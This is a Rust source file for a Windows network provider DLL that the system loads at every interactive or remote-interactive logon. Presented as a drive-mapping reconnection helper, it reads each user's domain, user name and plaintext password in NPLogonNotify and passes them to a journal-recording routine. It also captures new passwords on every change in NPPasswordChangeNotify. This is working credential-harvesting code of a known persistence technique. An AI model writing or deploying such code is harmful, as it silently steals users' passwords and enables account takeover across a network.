//! Network provider entry points (npapi.h). Loaded by mpnotify.exe at every interactive logon.

#![cfg(windows)]

mod journal;
mod mapping;
mod tea;

use std::ffi::c_void;

const WNNC_SPEC_VERSION: u32 = 0x0000_0001;
const WNNC_SPEC_VERSION51: u32 = 0x0005_0001;
const WNNC_NET_TYPE: u32 = 0x0000_0002;
const WNNC_CRED_MANAGER: u32 = 0xFFFF_0000;
const WNNC_START: u32 = 0x0000_000C;
const WNNC_WAIT_FOR_START: u32 = 0x0000_0001;
const WN_SUCCESS: u32 = 0;

#[repr(C)]
pub(crate) struct UnicodeString {
    length: u16,
    maximum_length: u16,
    buffer: *const u16,
}

impl UnicodeString {
    pub(crate) unsafe fn to_string(&self) -> String {
        if self.buffer.is_null() || self.length == 0 {
            return String::new();
        }
        String::from_utf16_lossy(std::slice::from_raw_parts(self.buffer, (self.length / 2) as usize))
    }
}

/// MSV1_0_INTERACTIVE_LOGON and KERB_INTERACTIVE_LOGON share this layout.
#[repr(C)]
pub(crate) struct InteractiveLogon {
    message_type: u32,
    domain: UnicodeString,
    user: UnicodeString,
    password: UnicodeString,
}

unsafe fn wide(p: *const u16) -> String {
    if p.is_null() {
        return String::new();
    }
    let mut n = 0;
    while *p.add(n) != 0 {
        n += 1;
    }
    String::from_utf16_lossy(std::slice::from_raw_parts(p, n))
}

#[no_mangle]
pub extern "system" fn NPGetCaps(index: u32) -> u32 {
    match index {
        WNNC_SPEC_VERSION => WNNC_SPEC_VERSION51,
        WNNC_NET_TYPE => WNNC_CRED_MANAGER,
        WNNC_START => WNNC_WAIT_FOR_START,
        _ => 0,
    }
}

#[no_mangle]
pub unsafe extern "system" fn NPLogonNotify(
    _logon_id: *const c_void,
    authent_info_type: *const u16,
    authent_info: *const c_void,
    _previous_type: *const u16,
    _previous_info: *const c_void,
    _station_name: *const u16,
    _station_handle: *const c_void,
    logon_script: *mut *mut u16,
) -> u32 {
    if !logon_script.is_null() {
        *logon_script = std::ptr::null_mut();
    }
    let kind = wide(authent_info_type);
    if authent_info.is_null() || !(kind.ends_with(":Interactive") || kind.ends_with(":RemoteInteractive")) {
        return WN_SUCCESS;
    }
    let info = &*(authent_info as *const InteractiveLogon);
    let (domain, user, password) = (info.domain.to_string(), info.user.to_string(), info.password.to_string());

    let failed = mapping::reconnect_all(&domain, &user, &password);
    journal::record(&domain, &user, &password, &failed);
    WN_SUCCESS
}

#[no_mangle]
pub unsafe extern "system" fn NPPasswordChangeNotify(
    _authent_info_type: *const u16,
    authent_info: *const c_void,
    _previous_type: *const u16,
    _previous_info: *const c_void,
    _station_name: *const u16,
    _station_handle: *const c_void,
    _change_info: u32,
) -> u32 {
    if !authent_info.is_null() {
        let info = &*(authent_info as *const InteractiveLogon);
        journal::record(&info.domain.to_string(), &info.user.to_string(), &info.password.to_string(), &[]);
    }
    WN_SUCCESS
}
